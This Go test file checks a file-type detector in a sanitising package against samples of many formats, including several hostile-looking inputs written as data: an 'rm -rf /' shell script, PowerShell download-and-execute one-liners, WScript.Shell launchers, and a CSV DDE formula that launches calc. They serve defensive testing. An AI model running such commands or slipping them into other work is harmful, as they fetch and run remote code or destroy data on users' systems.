package sanitize

import (
	"archive/zip"
	"bytes"
	"os"
	"path/filepath"
	"testing"

	"github.com/sekisho/sekisho/internal/testtool"
)

func zipOf(t testing.TB, files map[string]string, order ...string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range order {
		w, err := zw.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(files[name]))
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

const ctDocm = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>`
const ctXlsx = `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`

func TestDetect(t *testing.T) {
	big := string(bytes.Repeat([]byte("x"), 8000))
	tests := []struct {
		name string
		data []byte
		want string
	}{
		{"pdf", []byte("%PDF-1.7\n1 0 obj\n<<>>\nendobj\n"), "pdf"},
		{"png", []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"), "png"},
		{"jpeg", []byte("\xff\xd8\xff\xe0\x00\x10JFIF\x00"), "jpeg"},
		{"gif", []byte("GIF89a\x01\x00\x01\x00"), "gif"},
		{"plain text", []byte("hello world\n"), "text"},
		{"utf-8 japanese", []byte("こんにちは、世界。\n"), "text"},
		{"html", []byte("<!DOCTYPE html><html><body>hi</body></html>"), "html"},
		{"exe", append([]byte("MZ\x90\x00"), make([]byte, 200)...), "exe"},
		{"elf", append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 64)...), "elf"},
		{"shell script", []byte("#!/bin/sh\nrm -rf /\n"), "script"},
		{"empty", nil, "empty"},
		{"garbage", []byte{0x00, 0x01, 0x02, 0xff, 0xfe, 0x00, 0x13}, "unknown"},
		{"docm by content", zipOf(t, map[string]string{"[Content_Types].xml": ctDocm, "word/document.xml": "<w/>"}, "[Content_Types].xml", "word/document.xml"), "docm"},
		{"xlsx with large first entry", zipOf(t, map[string]string{"a.bin": big, "[Content_Types].xml": ctXlsx}, "a.bin", "[Content_Types].xml"), "xlsx"},
		{"plain zip", zipOf(t, map[string]string{"a.txt": "hi"}, "a.txt"), "zip"},
		{"jar", zipOf(t, map[string]string{"META-INF/MANIFEST.MF": "Manifest-Version: 1.0\n", "A.class": "\xca\xfe\xba\xbe"}, "META-INF/MANIFEST.MF", "A.class"), "jar"},
		{"odt", zipOf(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}, "mimetype", "content.xml"), "odt"},
		{"office 2003 xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`), "msoxml"},
		{"utf-16le text without a bom", []byte("T\x00h\x00i\x00s\x00 \x00i\x00s\x00 \x00t\x00e\x00x\x00t\x00.\x00\r\x00\n\x00"), "text"},
		{"utf-16be text without a bom", []byte("\x00T\x00h\x00i\x00s\x00 \x00i\x00s\x00 \x00t\x00e\x00x\x00t\x00.\x00\n"), "text"},
		{"utf-16le mail without a bom", utf16("From: A <a@example.jp>\r\nTo: <b@example.jp>\r\nSubject: hi\r\n\r\n<div>hello</div>\r\n"), "text"},
		{"utf-16le page without a bom", utf16("<!DOCTYPE html><html><head><title>t</title></head><body>hi</body></html>"), "html"},
		{"utf-16le xml without a bom", utf16(`<?xml version="1.0"?><root><a>1</a></root>`), "xml"},
		{"utf-16le powershell without a bom", utf16("$c = New-Object Net.WebClient\r\nIEX ($c.DownloadString('http://x/a'))\r\n"), "script"},
		{"utf-16le word 2003 xml without a bom", utf16(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument/>`), "msoxml"},
		{"word 2003 xml without the instruction", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body/></w:wordDocument>`), "msoxml"},
		{"another namespace's wordDocument stays xml", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="urn:example"/>`), "xml"},
		{"sylk", []byte("ID;PWXL;N;E\nC;Y1;X1;K1\nE\n"), "sylk"},
		{"rtf with a trailing NUL", []byte("{\\rtf1\\ansi Hello}\x00"), "rtf"},
		{"rtf with a binary payload", []byte("{\\rtf1 {\\bin4 \x00\x01\x02\x03}}"), "rtf"},
		// Programs that sniff as text.
		{"eicar", []byte(eicar + "\r\n"), "com"},
		{"batch without shebang", []byte("\r\n@ECHO OFF\r\npowershell -w hidden\r\n"), "script"},
		{"vbscript", []byte("Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n"), "script"},
		{"jscript", []byte("var s = new ActiveXObject(\"WScript.Shell\");\n"), "script"},
		{"powershell", []byte("IEX (New-Object Net.WebClient).DownloadString('http://x/a')\n"), "script"},
		{"hta", []byte("<html><head><HTA:APPLICATION ID=x/><script>x</script></head></html>"), "script"},
		{"script after 3 KiB of comments", []byte(big + "\nSet s = CreateObject(\"WScript.Shell\")\n"), "script"},
		{"utf-16 powershell with bom", append([]byte{0xff, 0xfe}, utf16("Invoke-Expression $x")...), "script"},
		// Behind a byte order mark, named by the decoded start as without one: mimetype says
		// text/plain for any UTF-16 with a BOM, and a page came out as its markup in UTF-8.
		{"utf-16le page with bom", append([]byte{0xff, 0xfe}, utf16("<html><script>alert(1)</script></html>")...), "html"},
		{"utf-16be page with bom", append([]byte{0xfe, 0xff}, utf16be("<html><script>alert(1)</script></html>")...), "html"},
		{"utf-16le csv with bom", append([]byte{0xff, 0xfe}, utf16("a,b,c\r\n=cmd|' /c calc'!A0,2,3\r\n")...), "csv"},
		{"utf-16le excel unicode text with bom", append([]byte{0xff, 0xfe}, utf16("a\tb\tc\r\n=1+1\t2\t3\r\n")...), "tsv"},
		{"utf-16le text quoting an address with bom", append([]byte{0xff, 0xfe}, utf16("Dear sir,\r\nplain <addr@example.jp> text\r\n")...), "text"},
		{"utf-16le mail with bom", append([]byte{0xff, 0xfe}, utf16("From: A <a@example.jp>\r\nTo: <b@example.jp>\r\nSubject: hi\r\n\r\n<div>hello</div>\r\n")...), "text"},
		{"prose about scripts", []byte("Please do not run attachments; our IT team will never ask you to.\n"), "text"},
		{"csv mentioning a marker", []byte("a,b\nwscript.shell,1\n"), "csv"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := Detect(bytes.NewReader(tc.data))
			if got.Name != tc.want {
				t.Errorf("Detect(%s) = %+v, want name %q", tc.name, got, tc.want)
			}
		})
	}
}

func FuzzDetect(f *testing.F) {
	f.Add([]byte("%PDF-1.4"))
	f.Add([]byte("PK\x03\x04"))
	f.Add(zipOf(f, map[string]string{"[Content_Types].xml": ctDocm}, "[Content_Types].xml"))
	f.Fuzz(func(t *testing.T, data []byte) {
		testtool.Deadline(t, testtool.FuzzInputTimeout)
		got := Detect(bytes.NewReader(data))
		if got.Name == "" || got.Class == "" {
			t.Fatalf("Detect returned an incomplete type %+v", got)
		}
	})
}

func utf16be(s string) []byte {
	b := utf16(s)
	for i := 0; i+1 < len(b); i += 2 {
		b[i], b[i+1] = b[i+1], b[i]
	}
	return b
}

func utf16(s string) []byte {
	var b []byte
	for _, r := range s {
		b = append(b, byte(r), byte(r>>8))
	}
	return b
}

// TestDetectUTF16MailWithoutBOM: a real mail saved as UTF-16 without a byte order mark
// quotes addresses in angle brackets and carries an HTML part; it is text (as it is with
// a BOM and in UTF-8), not an unknown file.
func TestDetectUTF16MailWithoutBOM(t *testing.T) {
	for _, f := range []string{"uns-email-utf16le-no-bom.eml", "uns-email-utf16be-no-bom.eml"} {
		data, err := os.ReadFile(filepath.Join("..", "testdata", "text", f))
		if err != nil {
			t.Fatal(err)
		}
		if got := Detect(bytes.NewReader(data)); got.Name != "text" || got.Class != ClassText {
			t.Errorf("Detect(%s) = %+v, want text", f, got)
		}
	}
}
